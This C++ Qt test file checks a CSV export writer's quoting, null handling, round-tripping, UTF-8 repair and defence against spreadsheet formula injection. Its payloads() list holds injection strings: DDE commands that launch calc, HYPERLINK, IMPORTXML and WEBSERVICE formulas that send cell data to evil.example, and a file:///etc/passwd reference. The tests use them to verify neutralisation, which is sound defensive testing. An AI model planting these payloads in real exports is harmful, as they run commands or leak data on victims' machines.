// SPDX-FileCopyrightText: GSC Tracking Admin contributors
// SPDX-License-Identifier: GPL-3.0-or-later
#include "csvparser.h"
#include "exportbench.h"

#include <QTest>

using namespace Export;
using Tests::CellRow;
using Tests::contentOf;
using Tests::CsvParser;
using Tests::shapeOf;
using Tests::writeRows;

class TestCsvWriter final : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void init() { m_folder = std::make_unique<QTemporaryDir>(); }
    void writesWhatTheStandardSays();
    void writesTheHeadAlone();
    void keepsNullApartFromEmpty();
    void comesBackAsItWas();
    void typesItsValues();
    void mendsWhatIsNoText();
    void noFormulaIsEvaluated();
    void columnNamesAreTextsToo();

private:
    [[nodiscard]] QString file() const { return m_folder->filePath(QStringLiteral("out.csv")); }
    std::unique_ptr<QTemporaryDir> m_folder;
};

namespace {

const Options safe{Format::Csv, false, true};
const Options raw{Format::Csv, true, true};

/// What attackers put into names, after OWASP, PayloadsAllTheThings and reports about products.
QList<QByteArray> payloads()
{
    const QList<QByteArray> bodies = {
        "1+1",
        "cmd|' /C calc'!A0",
        "HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
        "IMPORTXML(CONCAT(\"http://evil.example/?v=\", CONCATENATE(A2:E2)), \"//a\")",
        "WEBSERVICE(\"http://evil.example/\")",
        "DDE(\"cmd\";\"/C calc\";\"x\")",
        "SUM(1,1)*cmd|' /C calc'!A0",
        "'file:///etc/passwd'#$passwd.A1",
        "IF(A1<>\"\",1,0)",
        "10+20+cmd|' /C notepad'!A0",
    };
    QList<QByteArray> all;
    for (const QByteArray &lead : {QByteArray("="), QByteArray("+"), QByteArray("-"), QByteArray("@"),
                                   QByteArray("\t="), QByteArray("\r="), QByteArray("\n="),
                                   QByteArray("\0=", 2), QByteArray(" ="), QByteArray("\xef\xbc\x9d")})
        for (const QByteArray &body : bodies.first(5))
            all.append(lead + body);
    for (const QByteArray &lead : {QByteArray("="), QByteArray("+"), QByteArray("-"), QByteArray("@")})
        for (const QByteArray &body : bodies.sliced(5))
            all.append(lead + body);
    return all;
}

/// Whether a spreadsheet would calculate this cell, by rule 1.2.10 of OWASP's ASVS and what they skip.
bool isEvaluated(QByteArray cell)
{
    if (cell.isEmpty())
        return false;
    if (QByteArrayView("=+-@\t\r\n").contains(cell.front()) || cell.front() == '\0')
        return true;
    const QString text = QString::fromUtf8(cell).trimmed();
    return !text.isEmpty() && QStringLiteral("=+-@＝＋－＠").contains(text.front());
}

} // namespace

void TestCsvWriter::writesWhatTheStandardSays()
{
    const Shape shape{QStringLiteral("Customer"),
                      {QStringLiteral("Id"), QStringLiteral("Name"), QStringLiteral("Straße, Ort")},
                      {ColumnKind::Integer, ColumnKind::Text, ColumnKind::Text}};
    QCOMPARE(writeRows(file(), shape, safe,
                       {{"1", "Ann", "1 Main St"},
                        {"2", "Łukasz \"Lu\" Öztürk", "a, b"},
                        {"3", " spaced ", "two\r\nlines"},
                        {"-4", std::nullopt, ""}}),
             QString());
    QCOMPARE(contentOf(file()), QByteArray("Id,Name,\"Straße, Ort\"\r\n"
                                           "1,Ann,1 Main St\r\n"
                                           "2,\"Łukasz \"\"Lu\"\" Öztürk\",\"a, b\"\r\n"
                                           "3,\" spaced \",\"two\r\nlines\"\r\n"
                                           "-4,,\"\"\r\n"));
}

void TestCsvWriter::writesTheHeadAlone()
{
    QCOMPARE(writeRows(file(), shapeOf({ColumnKind::Text, ColumnKind::Text}), safe, {}), QString());
    QCOMPARE(contentOf(file()), QByteArray("C0,C1\r\n"));
}

void TestCsvWriter::keepsNullApartFromEmpty()
{
    const QList<CellRow> rows = {{std::nullopt, ""}, {"", std::nullopt}, {std::nullopt, std::nullopt}};
    QCOMPARE(writeRows(file(), shapeOf({ColumnKind::Text, ColumnKind::Text}), safe, rows), QString());
    const auto records = CsvParser::parse(contentOf(file()));
    QVERIFY(records.has_value());
    QCOMPARE(records->sliced(1), rows);
    // A line of its own must not be empty.
    QCOMPARE(writeRows(file(), shapeOf({ColumnKind::Text}), safe, {{std::nullopt}, {"x"}}), QString());
    QCOMPARE(contentOf(file()), QByteArray("C0\r\n\"\"\r\nx\r\n"));
}

void TestCsvWriter::comesBackAsItWas()
{
    QList<CellRow> rows;
    for (const char *text : {"plain",
                             "comma,comma",
                             "\"",
                             "\"\"",
                             "a\"b\"c",
                             "\r\n",
                             "line\nline",
                             "cr\rcr",
                             ";semi",
                             "\ttab",
                             " ",
                             "trailing ",
                             "Ünïcödé 漢字 \xf0\x9f\x98\x80",
                             "אבג",
                             "-- drop table",
                             "\\N",
                             "NULL",
                             "\x01\x1f\x7f",
                             "=1+1",
                             "+1 (216) 555-0199",
                             "@x",
                             "'quoted'"})
        rows.append(CellRow{QByteArray(text), std::nullopt, QByteArray("end")});
    rows.append(CellRow{QByteArray("nul\0inside", 10), QByteArray("\0", 1), QByteArray(100'000, '"')});
    const Shape shape = shapeOf({ColumnKind::Text, ColumnKind::Text, ColumnKind::Text});
    QCOMPARE(writeRows(file(), shape, raw, rows), QString());
    const auto records = CsvParser::parse(contentOf(file()));
    QVERIFY(records.has_value());
    QCOMPARE(records->sliced(1), rows);
}

void TestCsvWriter::typesItsValues()
{
    const Shape shape =
        shapeOf({ColumnKind::Integer, ColumnKind::Decimal, ColumnKind::Boolean, ColumnKind::Timestamp});
    QCOMPARE(writeRows(file(), shape, safe,
                       {{"-7", "-12345678901234567.89", "t", "2025-12-11 09:30:00.123456+00"},
                        {"9223372036854775807", "1.50", "0", "2025-12-11 09:30:00"},
                        {"=1+1", "NaN", "maybe", "infinity"}}),
             QString());
    QCOMPARE(contentOf(file()), QByteArray("C0,C1,C2,C3\r\n"
                                           "-7,-12345678901234567.89,true,2025-12-11T09:30:00.123456Z\r\n"
                                           "9223372036854775807,1.50,false,2025-12-11T09:30:00Z\r\n"
                                           "'=1+1,NaN,maybe,infinity\r\n"));
}

void TestCsvWriter::mendsWhatIsNoText()
{
    qint64 mended = 0;
    // A lone surrogate as an old program may have stored it, and a cut-off letter.
    QCOMPARE(writeRows(file(), shapeOf({ColumnKind::Text}), safe,
                       {{"a\xed\xa0\x80z"},
                        {"fine"},
                        {"cut \xc5"},
                        {"\xef\xbb\xbf"
                         "bom"}},
                       &mended),
             QString());
    QCOMPARE(mended, 2);
    QVERIFY(QByteArrayView(contentOf(file())).isValidUtf8());
    const auto records = CsvParser::parse(contentOf(file()));
    QVERIFY(records.has_value());
    QVERIFY(records->at(1).first()->startsWith("a\xef\xbf\xbd"));
    QVERIFY(records->at(1).first()->endsWith("z"));
    QCOMPARE(*records->at(3).first(), "cut \xef\xbf\xbd");
    QCOMPARE(*records->at(4).first(), "\xef\xbb\xbf"
                                      "bom");
}

void TestCsvWriter::noFormulaIsEvaluated()
{
    const QList<QByteArray> attacks = payloads();
    QVERIFY(attacks.size() >= 50);
    QList<CellRow> rows;
    int dangerous = 0;
    for (const QByteArray &attack : attacks) {
        rows.append(CellRow{attack, QByteArray("Ann")});
        dangerous += isEvaluated(attack) ? 1 : 0;
    }
    QCOMPARE(dangerous, attacks.size());

    const Shape shape = shapeOf({ColumnKind::Text, ColumnKind::Text});
    QCOMPARE(writeRows(file(), shape, safe, rows), QString());
    auto records = CsvParser::parse(contentOf(file()));
    QVERIFY(records.has_value());
    QCOMPARE(records->size(), rows.size() + 1);
    int evaluated = 0;
    for (qsizetype i = 0; i < rows.size(); ++i) {
        const QByteArray cell = *records->at(i + 1).first();
        evaluated += isEvaluated(cell) ? 1 : 0;
        QCOMPARE(cell.front(), '\'');
    }
    qInfo("%d payloads, %d evaluated", int(attacks.size()), evaluated);
    QCOMPARE(evaluated, 0);

    QCOMPARE(writeRows(file(), shape, raw, rows), QString());
    records = CsvParser::parse(contentOf(file()));
    QVERIFY(records.has_value());
    QCOMPARE(records->sliced(1), rows);
}

void TestCsvWriter::columnNamesAreTextsToo()
{
    const Shape shape{QStringLiteral("t"),
                      {QStringLiteral("=cmd|x"), QStringLiteral("a\"b")},
                      {ColumnKind::Text, ColumnKind::Text}};
    QCOMPARE(writeRows(file(), shape, safe, {}), QString());
    QCOMPARE(contentOf(file()), QByteArray("'=cmd|x,\"a\"\"b\"\r\n"));
}

QTEST_APPLESS_MAIN(TestCsvWriter)
#include "tst_csvwriter.moc"
